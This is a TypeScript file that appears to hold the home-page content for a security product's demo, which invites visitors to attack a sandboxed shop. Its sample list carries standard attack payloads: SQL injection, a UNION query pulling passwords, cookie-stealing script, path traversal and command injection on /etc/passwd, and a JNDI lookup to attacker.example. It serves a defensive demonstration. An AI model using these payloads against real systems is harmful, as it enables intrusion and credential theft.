/** The box on the home page that attacks the demo's site. */
export const demoAttack = {
  title: 'Do not take our word. Attack this shop.',
  lead: 'What you send goes through a running edge to a demo shop. You see what its owner reads in the log, also if it passes.',
  limits:
    'Nothing but the demo shop can be reached from here. What you send is logged there like any request.',
} as const;

export interface Sample {
  name: string;
  payload: string;
}

export const samples: readonly Sample[] = [
  { name: 'SQL injection', payload: "' OR 1=1--" },
  { name: 'Stolen table', payload: '7 UNION SELECT name, password FROM users' },
  { name: 'Script', payload: '<script>alert(document.cookie)</script>' },
  { name: 'Path traversal', payload: '../../../../etc/passwd' },
  { name: 'Shell command', payload: '127.0.0.1; cat /etc/passwd' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is how the attack is written
  { name: 'Java lookup', payload: '${jndi:ldap://attacker.example/a}' },
  { name: 'A customer', payload: "Which gate would you select from O'Brien & Sons?" },
];
